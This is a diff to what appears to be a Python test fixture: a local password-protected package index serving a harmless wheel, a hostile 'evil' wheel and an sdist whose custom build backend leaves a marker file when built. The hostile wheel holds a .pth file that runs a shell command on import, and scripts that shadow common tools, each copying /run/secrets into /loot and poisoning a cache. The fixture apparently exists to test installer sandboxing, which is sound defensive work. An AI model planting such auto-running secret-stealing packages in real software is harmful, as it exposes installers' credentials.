@@ -1,13 +1,15 @@
-"""A package index that asks for a password and serves one harmless and one hostile package. Prints its port."""
+"""A package index that asks for a password. It serves a harmless and a hostile wheel, and a package that has to be built, whose
+code leaves a mark in the file of the second argument. Prints its port."""
 
 import base64
 import hashlib
 import http.server
 import io
 import sys
+import tarfile
 import zipfile
 
-PASSWORD = sys.argv[1]
+PASSWORD, MARK = sys.argv[1:]
 STEAL = "#!/bin/sh\nmkdir -p /loot; cat /run/secrets/* > /loot/secrets; echo poison > /var/cache/envctl-uv/poison\nexit 1\n"
 
 
@@ -29,13 +31,56 @@ def wheel(name, files):
     return content.getvalue()
 
 
+# Its own build backend: nothing else is needed to build it.
+BACKEND = f"""
+import os, zipfile
+try:
+    open({MARK!r}, "a").write("built\\n")
+except OSError:
+    pass
+INFO = "oldtool-1.0.dist-info"
+FILES = {{
+    "oldtool.py": "value = 1\\n",
+    INFO + "/METADATA": "Metadata-Version: 2.1\\nName: oldtool\\nVersion: 1.0\\n",
+    INFO + "/WHEEL": "Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
+}}
+FILES[INFO + "/RECORD"] = "".join(path + ",,\\n" for path in [*FILES, INFO + "/RECORD"])
+
+def build_wheel(directory, config_settings=None, metadata_directory=None):
+    name = "oldtool-1.0-py3-none-any.whl"
+    with zipfile.ZipFile(os.path.join(directory, name), "w") as wheel:
+        for path, text in FILES.items():
+            wheel.writestr(path, text)
+    return name
+
+def build_sdist(directory, config_settings=None):
+    raise NotImplementedError
+"""
+
+
+def sdist():
+    files = {
+        "PKG-INFO": "Metadata-Version: 2.1\nName: oldtool\nVersion: 1.0\n",
+        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
+        "backend.py": BACKEND,
+    }
+    content = io.BytesIO()
+    with tarfile.open(fileobj=content, mode="w:gz") as archive:
+        for path, text in files.items():
+            entry = tarfile.TarInfo(f"oldtool-1.0/{path}")
+            entry.size = len(text.encode())
+            archive.addfile(entry, io.BytesIO(text.encode()))
+    return content.getvalue()
+
+
 TOOLS = ["find", "grep", "sed", "xargs", "chmod", "sh"]
-WHEELS = {
-    "labtool": wheel("labtool", {}),
-    "evil": wheel("evil", {
+PACKAGES = {
+    "oldtool": ("oldtool-1.0.tar.gz", sdist()),
+    "labtool": ("labtool-1.0-py3-none-any.whl", wheel("labtool", {})),
+    "evil": ("evil-1.0-py3-none-any.whl", wheel("evil", {
         "evil.pth": "import os; os.system('/bin/sh -c \"mkdir -p /loot; cat /run/secrets/* > /loot/pth\"')\n",
         **{f"evil-1.0.data/scripts/{tool}": STEAL for tool in TOOLS},
-    }),
+    })),
 }
 
 
@@ -47,13 +92,14 @@ class Index(http.server.BaseHTTPRequestHandler):
             return
         name = self.path.strip("/").split("/")[-1]
         package = name.split("-")[0]
-        if package not in WHEELS:
+        if package not in PACKAGES:
             self.answer(404, "text/plain", b"")
-        elif name.endswith(".whl"):
-            self.answer(200, "application/zip", WHEELS[package])
+            return
+        file, content = PACKAGES[package]
+        if name == file:
+            self.answer(200, "application/octet-stream", content)
         else:
-            file = f"{package}-1.0-py3-none-any.whl"
-            digest = hashlib.sha256(WHEELS[package]).hexdigest()
+            digest = hashlib.sha256(content).hexdigest()
             self.answer(200, "text/html", f'<a href="/{file}#sha256={digest}">{file}</a>'.encode())
 
     do_HEAD = do_GET
